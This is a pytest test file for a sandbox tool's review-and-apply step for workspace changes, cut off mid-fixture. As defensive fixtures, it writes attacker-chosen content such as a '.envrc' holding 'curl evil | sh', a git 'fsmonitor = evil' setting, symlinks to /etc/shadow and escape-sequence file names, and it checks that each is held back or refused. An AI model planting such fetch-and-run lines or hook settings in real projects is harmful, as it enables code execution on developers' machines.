"""Reviewing and applying an overlay session's change set (workspace/apply.py,
diff.py, protected.py and the changes/diff/apply/discard commands).

No container is needed: each test builds a real workspace in a temp
directory, records its baseline, and writes a layer (record, change set,
blobs) as the harvest would — with the names and contents an attacker in
the sandbox could have chosen.
"""

from __future__ import annotations

import fnmatch
import hashlib
import json
import os
import random
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from vectraguard import errors
from vectraguard.audit.store import open_store
from vectraguard.audit.verify import verify
from vectraguard.workspace import apply, baseline, changeset, store
from vectraguard.workspace.changeset import (
    ABSENT, ADDED, DELETED, DIRECTORY, FILE, MODIFIED, SPECIAL, SYMLINK, TYPE_CHANGED, Change,
)
from vectraguard.workspace.diff import render
from vectraguard.workspace.protected import why_protected

REPO = Path(__file__).resolve().parent.parent

# The shipped defaults (profiles/default.yaml filesystem.protected).
PROTECTED = (
    "**/.git", "!.git/objects", ".git/objects/info", "!.git/refs", "!.git/packed-refs", "!.git/logs",
    "!.git/index", "!.git/HEAD", "!.git/ORIG_HEAD", "!.git/FETCH_HEAD", "!.git/COMMIT_EDITMSG",
    "**/.pre-commit-config.yaml", "**/lefthook.yml", "**/lefthook.yaml", "**/.lefthook.yml", "**/.lefthook.yaml",
    "**/lefthook-local.yml", "**/.husky", "**/.envrc", "**/.env*", "**/.vscode", "**/.idea", "**/.devcontainer",
    ".github/workflows", ".gitlab-ci.yml", "**/.vectraguard.yaml",
)


@pytest.fixture
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "data"
    monkeypatch.setenv("VECTRAGUARD_DATA_DIR", str(path))
    for name in ("XDG_DATA_HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(name, str(tmp_path / name.lower()))
    return path


@pytest.fixture
def ws(tmp_path: Path, data: Path) -> Path:
    path = tmp_path / "ws"
    path.mkdir()
    (path / "src").mkdir()
    (path / "src" / "main.py").write_text("print('hello')\n")
    (path / "README").write_text("read me\n")
    (path / ".git").mkdir()
    (path / ".git" / "config").write_text("[core]\n")
    (path / ".git" / "objects").mkdir()
    (path / ".git" / "refs" / "heads").mkdir(parents=True)
    return path


class Session:
    """A layer as the harvest leaves it: record, baseline taken now, change set, blobs."""

    counter = 0

    def __init__(self, workspace: Path, *, findings: tuple[tuple[str, str], ...] = ()) -> None:
        Session.counter += 1
        self.id = f"0190000000{Session.counter:02d}abcdef"
        self.workspace = workspace
        record = store.LayerRecord(self.id, str(workspace), f"2026-01-01T00:00:{Session.counter:02d}.000Z",
                                   store.RUNNING, PROTECTED, findings=findings)
        self.layer = store.create(record)
        self.base = baseline.record(workspace)
        baseline.save(self.layer.baseline_path, self.base)
        self.changes: list[Change] = []

    def _before(self, path: str) -> str:
        entry = self.base.get(path)
        return entry.kind if entry else ABSENT

    def _action(self, path: str, after: str) -> str:
        before = self._before(path)
        if after == ABSENT:
            return DELETED
        if before == ABSENT:
            return ADDED
        return MODIFIED if before == after else TYPE_CHANGED

    def file(self, path: str, content: bytes, mode: int = 0o644) -> Session:
        sha = hashlib.sha256(content).hexdigest()
        changeset.blob_path(self.layer.path, sha).write_bytes(content)
        self.changes.append(Change(path, self._action(path, FILE), FILE, self._before(path), mode, len(content), sha))
        return self

    def directory(self, path: str, mode: int = 0o755) -> Session:
        self.changes.append(Change(path, self._action(path, DIRECTORY), DIRECTORY, self._before(path), mode))
        return self

    def symlink(self, path: str, target: str) -> Session:
        sha = hashlib.sha256(target.encode()).hexdigest()
        self.changes.append(Change(path, self._action(path, SYMLINK), SYMLINK, self._before(path), 0o777,
                                   len(target), sha, target))
        return self

    def special(self, path: str) -> Session:
        self.changes.append(Change(path, self._action(path, SPECIAL), SPECIAL, self._before(path), 0o644))
        return self

    def delete(self, path: str) -> Session:
        """As the harvest does: the path and every baseline path beneath it."""
        for candidate in self.base:
            if candidate == path or candidate.startswith(path + "/"):
                self.changes.append(Change(candidate, DELETED, ABSENT, self.base[candidate].kind))
        return self

    def done(self) -> store.Layer:
        changeset.save(self.layer.path, self.changes)
        self.layer.update(state=store.PENDING)
        return self.layer


def tree(root: Path) -> dict[str, str]:
    """Every path beneath root: file contents, link targets, 'dir'."""
    out = {}
    for path in sorted(root.rglob("*")):
        relative = str(path.relative_to(root))
        if path.is_symlink():
            out[relative] = "-> " + os.readlink(path)
        elif path.is_dir():
            out[relative] = "dir"
        else:
            out[relative] = path.read_bytes().decode(errors="replace")
    return out


def applied(layer: store.Layer, *paths: str, include_protected: bool = False, force: bool = False) -> apply.Plan:
    plan = apply.plan(layer, paths, include_protected=include_protected)
    assert not plan.blocked and (force or not plan.conflicts), (plan.blocked, plan.conflicts)
    outcome = apply.execute(plan, force=force)
    assert outcome.failure == ""
    return plan


# -- protected paths ----------------------------------------------------------------------

@pytest.mark.parametrize(("path", "pattern"), [
    (".git", "**/.git"),
    (".git/config", "**/.git"),
    (".git/hooks/pre-commit", "**/.git"),
    (".git/commondir", "**/.git"),
    (".GIT/config", "**/.git"),
    ("sub/.git", "**/.git"),
    ("sub/.Git/config", "**/.git"),
    ("sub/.git/objects/ab/cd", "**/.git"),
    (".git/objects/info/alternates", ".git/objects/info"),
    (".git/objects/ab/cdef", None),
    (".git/refs/heads/main", None),
    (".git/HEAD", None),
    (".git/index", None),
    (".git/logs/HEAD", None),
    (".envrc", "**/.env*"),
    ("deep/er/.envrc", "**/.env*"),
    (".env.local", "**/.env*"),
    (".vscode/tasks.json", "**/.vscode"),
    (".VSCode/tasks.json", "**/.vscode"),
    (".husky/pre-commit", "**/.husky"),
    (".github/workflows/ci.yml", ".github/workflows"),
    ("sub/.github/workflows/ci.yml", None),
    (".vectraguard.yaml", "**/.vectraguard.yaml"),
    ("Makefile", None),
    ("package.json", None),
    ("src/environment.py", None),
    ("gitx/.gitignore", None),
])
def test_default_protected_patterns(path: str, pattern: str | None) -> None:
    assert why_protected(path, PROTECTED) == pattern


def test_a_sessions_findings_are_protected_last_and_literally() -> None:
    hooks = [("tools/hooks", "core.hooksPath")]
    assert why_protected("tools/hooks/pre-commit", PROTECTED, hooks) == "tools/hooks: core.hooksPath"
    assert why_protected("tools/hooks", PROTECTED, hooks) == "tools/hooks: core.hooksPath"
    assert why_protected("TOOLS/Hooks/x", PROTECTED, hooks) == "tools/hooks: core.hooksPath"  # any case
    assert why_protected("tools/hooksx", PROTECTED, hooks) is None
    # Un-protecting patterns do not reach a finding: it comes after them.
    assert why_protected(".git/refs/x", PROTECTED, [(".git/refs", "moved")]) == ".git/refs: moved"
    # Taken literally, not as a glob; outside the workspace it protects nothing in it.
    assert why_protected("hooks-x", [], [("hooks-[x]", "r")]) is None
    assert why_protected("hooks-[x]/a", [], [("hooks-[x]", "r")]) == "hooks-[x]: r"
    assert why_protected("a", [], [("../elsewhere", "r")]) is None


def test_pattern_language() -> None:
    assert why_protected("a/b/c", ["a/*/c"]) == "a/*/c"
    assert why_protected("a/b/c/d", ["a/**/d"]) == "a/**/d"
    assert why_protected("a/d", ["a/**/d"]) == "a/**/d"
    assert why_protected("x/a", ["a"]) is None  # anchored at the root
    assert why_protected("a/b", ["/a"]) == "/a"
    assert why_protected("a/b", ["a", "!a/b", "a/b/c"]) is None
    assert why_protected("a/b/c", ["a", "!a/b", "a/b/c"]) == "a/b/c"


# -- applying -----------------------------------------------------------------------------

def test_added_modified_deleted_and_new_directories_apply(ws: Path) -> None:
    s = Session(ws)
    s.file("src/main.py", b"print('changed')\n").file("src/new.py", b"new\n")
    s.directory("lib").directory("lib/deep").file("lib/deep/x.txt", b"x\n")
    s.delete("README")
    layer = s.done()
    plan = applied(layer)
    assert (ws / "src/main.py").read_text() == "print('changed')\n"
    assert (ws / "src/new.py").read_text() == "new\n"
    assert (ws / "lib/deep/x.txt").read_text() == "x\n"
    assert stat.S_IMODE((ws / "lib/deep").stat().st_mode) == 0o755
    assert not (ws / "README").exists()
    record = layer.record()
    assert record.state == store.APPLIED
    assert set(record.applied) == {c.path for c in s.changes}
    recorded = {entry["path"]: entry["sha256"] for entry in record.history[-1]["paths"]}
    assert recorded["lib/deep/x.txt"] == hashlib.sha256(b"x\n").hexdigest() and recorded["README"] == ""
    assert not [p for p in os.listdir(ws / "src") if p.startswith(".vg-apply")]
    assert len(plan.steps) == 6


def test_already_applied_and_unknown_sessions_are_errors(ws: Path) -> None:
    layer = Session(ws).file("a.txt", b"a\n").done()
    applied(layer)
    with pytest.raises(errors.UsageError, match="was already applied"):
        apply.plan(layer)
    with pytest.raises(errors.UsageError, match="no workspace layer for session 'nope'"):
        store.find("nope")


def test_a_directory_on_the_way_replaced_by_a_symlink_is_never_followed(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "main.py").write_text("outside\n")
    s = Session(ws)
    s.file("src/main.py", b"pwned\n").file("src/added.py", b"pwned\n").file("other.txt", b"fine\n")
    layer = s.done()
    # While the review is open, src becomes a link to a directory outside.
    (ws / "src" / "main.py").unlink()
    (ws / "src").rmdir()
    (ws / "src").symlink_to(outside)
    before = tree(ws)
    for force in (False, True):
        plan = apply.plan(layer)
        assert [p.path for p in plan.blocked] == ["src/added.py", "src/main.py"]
        assert "src is a symbolic link in the workspace (never followed)" in plan.blocked[0].reason
        with pytest.raises(ValueError):
            apply.execute(plan, force=force)
    assert tree(outside) == {"main.py": "outside\n"}
    assert tree(ws) == before


def test_links_that_leave_the_workspace_are_refused_and_inside_ones_applied(ws: Path) -> None:
    s = Session(ws)
    s.symlink("shadow", "/etc/shadow").symlink("src/up", "../../outside").symlink("src/sneaky", "main.py/../..")
    s.symlink("src/ok", "../README").symlink("top", "src/main.py").symlink("src/self", "..")
    layer = s.done()
    plan = applied(layer)
    assert sorted(p.path for p in plan.refused) == ["shadow", "src/sneaky", "src/up"]
    assert os.readlink(ws / "src/ok") == "../README" and (ws / "src/ok").is_symlink()
    assert os.readlink(ws / "top") == "src/main.py"
    assert os.readlink(ws / "src/self") == ".."
    assert not os.path.lexists(ws / "shadow") and not os.path.lexists(ws / "src/up")
    assert (ws / "src/main.py").read_text() == "print('hello')\n"  # the link's target, untouched
    assert layer.record().state == store.APPLIED  # refused entries never become applicable


@pytest.mark.parametrize(("path", "target", "refused"), [
    ("l", "/etc/shadow", True),
    ("l", "../outside", True),
    ("a/l", "../x", False),
    ("a/l", "../../x", True),
    ("a/b/l", "../../x/y", False),
    ("a/l", "b/../..", True),  # `b` may be a link itself: `..` after a name is never trusted
    ("a/l", "b/../c", True),
    ("a/l", "./b//c/", False),
    ("l", "", True),
    ("l", ".", False),
])
def test_link_targets(path: str, target: str, refused: bool) -> None:
    assert bool(apply.link_escape(path, target)) is refused


def test_entries_beneath_a_link_or_file_of_the_change_set_are_refused(ws: Path) -> None:
    layer = Session(ws).symlink("a", "src").file("a/main.py", b"through a link\n").file("f", b"f\n") \
        .file("f/x", b"x\n").done()
    plan = applied(layer)
    assert [(p.path, p.reason) for p in plan.refused] == [
        ("a/main.py", "inside a, which the change set makes a symlink: an inconsistent change set"),
        ("f/x", "inside f, which the change set makes a file: an inconsistent change set")]
    assert (ws / "src/main.py").read_text() == "print('hello')\n"


def test_a_symlink_entry_replaces_a_file_without_following_it(ws: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("safe\n")
    s = Session(ws)
    s.symlink("README", "src/main.py").file("src/main.py", b"through?\n")
    layer = s.done()
    applied(layer)
    assert os.readlink(ws / "README") == "src/main.py"
    assert victim.read_text() == "safe\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="mknod needs root")
def test_fifos_and_devices_are_refused(ws: Path) -> None:
    layer = Session(ws).special("fifo").special("dev/null2").file("ok.txt", b"ok\n").done()
    plan = applied(layer)
    assert sorted(p.path for p in plan.refused) == ["dev/null2", "fifo"]
    assert "special file" in plan.refused[0].reason
    assert not os.path.lexists(ws / "fifo") and not os.path.lexists(ws / "dev")
    assert (ws / "ok.txt").read_text() == "ok\n"


def test_setuid_and_setgid_dropped_execute_bits_kept(ws: Path) -> None:
    layer = Session(ws).file("tool", b"#!/bin/sh\n", 0o6755).file("plain", b"x", 0o640).directory("d", 0o3775).done()
    applied(layer)
    assert stat.S_IMODE((ws / "tool").stat().st_mode) == 0o755
    assert stat.S_IMODE((ws / "plain").stat().st_mode) == 0o640
    assert stat.S_IMODE((ws / "d").stat().st_mode) == 0o775


def test_type_changes(ws: Path) -> None:
    (ws / "was-dir").mkdir()
    (ws / "was-dir" / "inner.txt").write_text("inner\n")
    (ws / "was-file").write_text("file\n")
    (ws / "was-link").symlink_to("README")
    s = Session(ws)
    s.delete("was-dir/inner.txt").file("was-dir", b"now a file\n")
    s.directory("was-file").file("was-file/child", b"child\n")
    s.file("was-link", b"now a file too\n")
    layer = s.done()
    applied(layer)
    assert (ws / "was-dir").read_text() == "now a file\n"
    assert (ws / "was-file" / "child").read_text() == "child\n"
    assert not (ws / "was-link").is_symlink() and (ws / "was-link").read_text() == "now a file too\n"
    assert (ws / "README").read_text() == "read me\n"


def test_deleting_a_directory_takes_its_tree(ws: Path) -> None:
    (ws / "old" / "a" / "b").mkdir(parents=True)
    (ws / "old" / "a" / "b" / "f").write_text("f\n")
    (ws / "old" / "l").symlink_to("/etc")
    layer = Session(ws).delete("old").done()
    applied(layer)
    assert not os.path.lexists(ws / "old")
    assert Path("/etc/passwd").exists()


def test_conflicts_are_all_listed_and_stop_everything_unless_forced(ws: Path) -> None:
    (ws / "gone.txt").write_text("gone\n")
    s = Session(ws)
    s.file("src/main.py", b"sandbox\n").file("new.txt", b"sandbox\n").delete("gone.txt").file("clean.txt", b"c\n")
    layer = s.done()
    (ws / "src/main.py").write_text("host edit\n")
    (ws / "new.txt").write_text("host made this\n")
    (ws / "gone.txt").write_text("host edit too\n")
    before = tree(ws)
    plan = apply.plan(layer)
    assert [(p.path, p.reason) for p in plan.conflicts] == [
        ("gone.txt", "changed in the workspace since the session started"),
        ("new.txt", "created in the workspace since the session started"),
        ("src/main.py", "changed in the workspace since the session started"),
    ]
    with pytest.raises(ValueError):
        apply.execute(plan)
    assert tree(ws) == before
    applied(layer, force=True)
    assert (ws / "src/main.py").read_text() == "sandbox\n"
    assert (ws / "new.txt").read_text() == "sandbox\n"
    assert not (ws / "gone.txt").exists()


def test_a_directory_deleted_in_the_sandbox_but_added_to_on_the_host_conflicts(ws: Path) -> None:
    (ws / "d").mkdir()
    (ws / "d" / "f").write_text("f\n")
    layer = Session(ws).delete("d").done()
    (ws / "d" / "host-new").write_text("keep me\n")
    plan = apply.plan(layer)
    assert [p.path for p in plan.conflicts] == ["d"]


def test_protected_paths_are_held_back_unless_named(ws: Path) -> None:
    (ws / "tools").mkdir()
    s = Session(ws, findings=(("tools/hooks", "core.hooksPath: git runs the hooks in it"),))
    s.file(".envrc", b"curl evil | sh\n").file(".git/config", b"[core]\n\tfsmonitor = evil\n")
    s.directory(".git/hooks").file(".git/hooks/x", b"evil\n", 0o755).directory("sub").directory("sub/.GIT")
    s.file("sub/.GIT/config", b"evil\n").directory(".vscode").file(".vscode/tasks.json", b"{}\n")
    s.directory("tools/hooks").file("tools/hooks/pre-commit", b"evil\n", 0o755)
    s.directory(".git/objects/ab").file(".git/objects/ab/cd", b"object\n").file(".git/refs/heads/main", b"abc\n")
    s.file("src/ok.py", b"ok\n")
    layer = s.done()
    plan = applied(layer)
    assert {c.path for c in plan.steps} == {".git/objects/ab", ".git/objects/ab/cd", ".git/refs/heads/main",
                                            "src/ok.py", "sub"}
    held = {h.change.path: h.why for h in plan.held_back}
    assert held[".envrc"] == "protected (**/.env*)"
    assert held["tools/hooks/pre-commit"] == "protected (tools/hooks: core.hooksPath: git runs the hooks in it)"
    assert set(held) == {".envrc", ".git/config", ".git/hooks", ".git/hooks/x", "sub/.GIT", "sub/.GIT/config",
                         ".vscode", ".vscode/tasks.json", "tools/hooks", "tools/hooks/pre-commit"}
    assert (ws / ".git/config").read_text() == "[core]\n"
    assert not (ws / ".envrc").exists() and not (ws / "tools/hooks").exists()
    assert os.listdir(ws / "sub") == []  # an ordinary new directory; what it held is protected
    assert (ws / ".git/objects/ab/cd").read_text() == "object\n"
    assert (ws / ".git/refs/heads/main").read_text() == "abc\n"
    # Everything that can be applied without naming is: the layer counts as applied.
    assert layer.record().state == store.APPLIED
    # Asking for protected paths without naming them brings none.
    with pytest.raises(errors.UsageError) as raised:
        apply.plan(layer, include_protected=True)
    assert raised.value.lines() == [f"vectraguard: session {layer.session_id} was already applied; 10 protected "
                                    "path(s) were held back: name them with --include-protected to apply them"]
    # Named, and asked for: applied (the new directory above it comes along).
    plan = applied(layer, ".envrc", "tools/hooks/pre-commit", include_protected=True)
    assert [h.change.path for h in plan.protected] == [".envrc", "tools/hooks", "tools/hooks/pre-commit"]
    assert (ws / ".envrc").read_text() == "curl evil | sh\n"
    assert (ws / ".git/config").read_text() == "[core]\n"


def test_named_protected_path_without_include_protected_is_held(ws: Path) -> None:
    layer = Session(ws).file(".envrc", b"x\n").done()
    plan = apply.plan(layer, [".envrc"])
    assert not plan.steps and [h.change.path for h in plan.held_back] == [".envrc"]


def test_a_directory_removal_that_would_take_a_protected_path_is_held(ws: Path) -> None:
    (ws / "sub").mkdir()
    (ws / "sub" / ".envrc").write_text("mine\n")
    layer = Session(ws).delete("sub").done()
    plan = apply.plan(layer)
    assert {h.change.path for h in plan.held_back} == {"sub", "sub/.envrc"}
    assert not plan.steps


def test_selection_by_path(ws: Path) -> None:
    s = Session(ws)
    s.directory("new").directory("new/deep").file("new/deep/a", b"a\n").file("new/b", b"b\n").file("c", b"c\n")
    layer = s.done()
    plan = applied(layer, "new/deep/a")
    assert [c.path for c in plan.steps] == ["new", "new/deep", "new/deep/a"]
    assert not (ws / "new/b").exists() and not (ws / "c").exists()
    assert layer.record().state == store.PENDING
    plan = applied(layer, f"{ws}/new")
    assert [c.path for c in plan.steps] == ["new/b"]
    with pytest.raises(errors.UsageError, match="new/deep/a already applied"):
        apply.plan(layer, ["new/deep/a"])
    with pytest.raises(errors.UsageError, match="nothing is not in the change set"):
        apply.plan(layer, ["nothing"])
    with pytest.raises(errors.UsageError, match="is outside the workspace"):
        apply.plan(layer, ["../etc/passwd"])
    with pytest.raises(errors.UsageError, match="is outside the workspace"):
        apply.plan(layer, ["/etc/passwd"])
    applied(layer)
    assert layer.record().state == store.APPLIED


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting needs root")
def test_another_filesystem_mounted_in_the_workspace_is_never_entered(ws: Path) -> None:
    (ws / "m").mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "vg-test", str(ws / "m")], check=False,
                      capture_output=True).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        (ws / "m" / "precious").write_text("keep\n")
        layer = Session(ws).delete("m").file("m/x", b"x\n").done()  # as a sandbox that saw an empty m would
        plan = apply.plan(layer)
        assert [(p.path, p.reason) for p in plan.blocked] == [
            ("m", "m is where another filesystem is mounted in the workspace (never entered): nothing is removed "
                  "through it")]
        assert (ws / "m" / "precious").read_text() == "keep\n"
    finally:
        subprocess.run(["umount", str(ws / "m")], check=True)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root hands files to the workspace's owner")
def test_as_root_created_files_belong_to_the_workspace_owner(ws: Path) -> None:
    os.chown(ws, 4321, 4321)
    layer = Session(ws).directory("d").file("d/f", b"f\n").symlink("l", "d/f").done()
    applied(layer)
    for path in ("d", "d/f"):
        assert (os.stat(ws / path).st_uid, os.stat(ws / path).st_gid) == (4321, 4321)
    assert os.lstat(ws / "l").st_uid == 4321


def test_a_blob_altered_in_the_layer_stops_the_apply(ws: Path) -> None:
    s = Session(ws).file("a", b"good\n")
    layer = s.done()
    changeset.blob_path(layer.path, s.changes[0].sha256).write_bytes(b"evil\n")
    outcome = apply.execute(apply.plan(layer))
    assert "does not match" in outcome.failure
    assert not (ws / "a").exists()


# -- diff ---------------------------------------------------------------------------------

def test_diff_text_binary_links_modes_and_escapes(ws: Path) -> None:
    (ws / "bin.dat").write_bytes(b"\0\1\2")
    s = Session(ws)
    s.file("src/main.py", b"print('hello')\n\x1b[31mred\tx\n", 0o755).file("bin.dat", b"\0\3")
    s.symlink("link", "src/main.py").file("new\x1b]0;title\x07.txt", b"no newline").delete("README")
    lines = list(render(s.done(), s.changes))
    text = "\n".join(lines)
    assert "\x1b" not in text and "\x07" not in text
    assert "+\\x1b[31mred\tx" in lines
    assert "old mode 100644" in lines and "new mode 100755" in lines
    assert "--- a/src/main.py" in lines and "+++ b/src/main.py" in lines
    assert any(line.startswith("Binary files a/bin.dat and b/bin.dat differ: 3 bytes, sha256 "
                               + hashlib.sha256(b"\0\1\2").hexdigest()) for line in lines)
    assert "+link → src/main.py" in lines
    assert "diff --vectraguard a/new\\x1b]0;title\\x07.txt b/new\\x1b]0;title\\x07.txt" in lines
    assert "+no newline" in lines and "\\ No newline at end of file" in lines
    assert "--- a/README" in lines and "+++ /dev/null" in lines and "-read me" in lines


def test_diff_never_reads_through_a_link(ws: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("top secret\n")
    s = Session(ws).file("src/main.py", b"x\n")
    layer = s.done()
    (ws / "src" / "main.py").unlink()
    (ws / "src").rmdir()
    (ws / "src").symlink_to(tmp_path)
    (tmp_path / "main.py").write_text("top secret\n")
    text = "\n".join(render(layer, s.changes))
    assert "top secret" not in text
    assert "workspace side not read: src is a symbolic link" in text


# -- the commands -------------------------------------------------------------------------

def vg(args: list[str], cwd: Path, env_root: Path) -> subprocess.CompletedProcess[str]:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(env_root), "LANG": "C.UTF-8",
           "PYTHONPATH": str(REPO), "VECTRAGUARD_DATA_DIR": str(env_root / "data"),
           "XDG_CONFIG_HOME": str(env_root / "xdg_config_home"), "XDG_CACHE_HOME": str(env_root / "xdg_cache_home")}
    return subprocess.run([sys.executable, "-m", "vectraguard", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=60, check=False)


@pytest.fixture
def pending(ws: Path) -> Iterator[store.Layer]:
    s = Session(ws)
    s.file("src/main.py", b"print('changed')\n").file(".envrc", b"evil\n").file("esc\x1b[2J.txt", b"\x1b[2Jboo\n")
    yield s.done()


@pytest.mark.parametrize(("args", "expected"), [
    (["changes", "nope"], "vectraguard: no workspace layer for session 'nope'; `vectraguard changes --all` "
                          "lists the layers kept"),
    (["diff", "nope"], "vectraguard: no workspace layer for session 'nope'; `vectraguard changes --all` "
                       "lists the layers kept"),
    (["apply", "nope"], "vectraguard: no workspace layer for session 'nope'; `vectraguard changes --all` "
                        "lists the layers kept"),
    (["discard", "nope"], "vectraguard: no workspace layer for session 'nope'; `vectraguard changes --all` "
                          "lists the layers kept"),
    (["apply", "{id}", "../outside"], "vectraguard: ../outside is outside the workspace {ws}; paths are relative "
                                      "to the workspace root, as `vectraguard changes` lists them"),
    (["apply", "{id}", "/etc/passwd"], "vectraguard: /etc/passwd is outside the workspace {ws}"),
    (["apply", "{id}", "src/other.py"], "vectraguard: src/other.py is not in the change set of session {id}; "
                                        "`vectraguard changes {id}` lists them"),
    (["diff", "{id}", "README"], "vectraguard: README is not in the change set of session {id}; "
                                 "`vectraguard changes {id}` lists them"),
    (["changes", "{id}", "--all"], "vectraguard changes: give a session ID or --all, not both"),
])
def test_bad_input_is_one_line_and_exit_125(pending: store.Layer, ws: Path, tmp_path: Path, args: list[str],
                                            expected: str) -> None:
    before = tree(ws)
    args = [a.format(id=pending.session_id, ws=ws) for a in args]
    result = vg(args, ws, tmp_path)
    assert result.returncode == 125, result
    assert result.stdout == "" and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [expected.format(id=pending.session_id, ws=ws)]
    assert tree(ws) == before and pending.record().state == store.PENDING


def test_a_session_with_no_change_set_and_an_applied_or_discarded_one(ws: Path, tmp_path: Path) -> None:
    running = Session(ws)
    message = (f"vectraguard: session {running.id} has no change set yet (still running, or its run was killed "
               "before the layer was read)")
    for command in ("apply", "diff", "changes", "discard"):
        result = vg([command, running.id], ws, tmp_path)
        assert (result.returncode, result.stderr.splitlines()) == (125, [message]), command
    layer = Session(ws).file("a", b"a\n").done()
    assert vg(["apply", layer.session_id], ws, tmp_path).returncode == 0
    result = vg(["apply", layer.session_id], ws, tmp_path)
    assert (result.returncode, result.stderr) == (125, f"vectraguard: session {layer.session_id} was already "
                                                       "applied\n")
    assert vg(["discard", layer.session_id], ws, tmp_path).returncode == 0
    unread = Session(ws)  # a harvest that failed: reviewable state, no change set
    unread.layer.update(state=store.PENDING)
    result = vg(["discard", unread.id], ws, tmp_path)
    assert result.returncode == 0 and unread.layer.record().state == store.DISCARDED
    for command in ("apply", "discard"):
        result = vg([command, layer.session_id], ws, tmp_path)
        assert result.returncode == 125 and len(result.stderr.splitlines()) == 1 and "discarded" in result.stderr


def _record_run(tmp_path: Path, sid: str) -> None:
    """The run's own `started` record, as `run` leaves it (verify checks the index against it, and
    that a session's events begin with it)."""
    audit = open_store(tmp_path / "data" / "audit.db")
    at = "2026-01-01T00:00:00.000Z"
    audit.append(sid, "started", {"session": sid, "status": "started", "at": at},
                 {"id": sid, "started_at": at, "status": "started"})
    audit.close()


def test_changes_diff_apply_discard_end_to_end(pending: store.Layer, ws: Path, tmp_path: Path) -> None:
    sid = pending.session_id
    _record_run(tmp_path, sid)
    listed = vg(["changes"], ws / "src", tmp_path)  # the newest layer of this directory
    assert listed.returncode == 0, listed.stderr
    assert "\x1b" not in listed.stdout and "esc\\x1b[2J.txt" in listed.stdout
    assert "protected (**/.env*)" in listed.stdout
    rows = json.loads(vg(["changes", sid[:12], "--json"], tmp_path, tmp_path).stdout)["changes"]
    assert {r["path"]: r["protected"] for r in rows} == {".envrc": "**/.env*", "esc\x1b[2J.txt": None,
                                                         "src/main.py": None}
    layers = json.loads(vg(["changes", "--all", "--json"], tmp_path, tmp_path).stdout)
    assert [(r["session"], r["state"], r["changes"], r["protected"]) for r in layers] == [(sid, "pending", 3, 1)]
    shown = vg(["diff", sid], tmp_path, tmp_path)
    assert shown.returncode == 0 and "\x1b" not in shown.stdout and "+\\x1b[2Jboo" in shown.stdout
    result = vg(["apply", sid, "--dry-run"], tmp_path, tmp_path)
    assert result.returncode == 0 and "dry run: 2 change(s) would be applied" in result.stdout
    assert (ws / "src/main.py").read_text() == "print('hello')\n"
    (ws / "src/main.py").write_text("host edit\n")
    result = vg(["apply", sid], tmp_path, tmp_path)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "conflict: src/main.py: changed in the workspace since the session started",
        "held back: .envrc: protected (**/.env*)",
        "nothing applied: 1 conflict(s) with changes made in the workspace since the session started; review them, "
        "then --force overwrites them"]
    result = vg(["apply", sid, "--force"], tmp_path, tmp_path)
    assert result.returncode == 0, result.stderr
    assert (ws / "src/main.py").read_text() == "print('changed')\n"
    assert (ws / "esc\x1b[2J.txt").read_bytes() == b"\x1b[2Jboo\n"
    assert not (ws / ".envrc").exists()
    result = vg(["apply", sid, "--include-protected", ".envrc"], tmp_path, tmp_path)
    assert result.returncode == 0, result.stderr
    assert "+evil" in result.stdout and (ws / ".envrc").read_text() == "evil\n"
    assert vg(["discard", sid], tmp_path, tmp_path).returncode == 0
    assert not (pending.path / "blobs").exists() and pending.record().state == store.DISCARDED
    # Each apply and the discard are on the audit chain, which still verifies.
    audit = open_store(tmp_path / "data" / "audit.db")
    try:
        events = [(kind, body) for kind, body in audit.session_events(sid)]
        assert [kind for kind, _ in events] == ["started", "workspace-applied", "workspace-applied",
                                                "workspace-discarded"]
        first = events[1][1]
        assert first["forced"] is True and first["overridden"] == ["src/main.py"]
        assert {p["path"]: p["sha256"] for p in first["paths"]}["src/main.py"] == hashlib.sha256(
            b"print('changed')\n").hexdigest()
        assert verify(audit).problems == []
    finally:
        audit.close()
    assert vg(["logs", "verify"], tmp_path, tmp_path).returncode == 0
    shown = vg(["logs", "show", sid], tmp_path, tmp_path).stdout
    assert "== workspace-applied" in shown and "== workspace-discarded" in shown and "\x1b" not in shown


# -- deep trees ---------------------------------------------------------------------------

DEPTH = 5000  # far past Python's recursion limit (1000); "d/" * 5000 is 10000 bytes, past PATH_MAX (4096)


def deep_path(depth: int, leaf: str = "") -> str:
    return "/".join(["d"] * depth + ([leaf] if leaf else []))


def make_deep(root: Path, depth: int, content: bytes) -> None:
    """d/d/.../d/f beneath root, made through directory fds (the path is too long to name)."""
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            below = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = below
        out = os.open("f", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=fd)
        os.write(out, content)
        os.close(out)
    finally:
        os.close(fd)


def read_deep(root: Path, path: str) -> tuple[bytes, int]:
    """The content and mode of the file at `path`, reached one component at a time."""
    *directories, leaf = path.split("/")
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in directories:
            below = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd)
            os.close(fd)
            fd = below
        source = os.open(leaf, os.O_RDONLY | os.O_NOFOLLOW, dir_fd=fd)
        try:
            return os.read(source, 1 << 16), stat.S_IMODE(os.fstat(source).st_mode)
        finally:
            os.close(source)
    finally:
        os.close(fd)


@pytest.fixture
def remove_deep(ws: Path) -> Iterator[None]:
    """pytest's own cleanup recurses (shutil.rmtree): deep trees are removed here, by apply's walk."""
    yield
    root = os.open(ws, os.O_RDONLY | os.O_DIRECTORY)
    try:
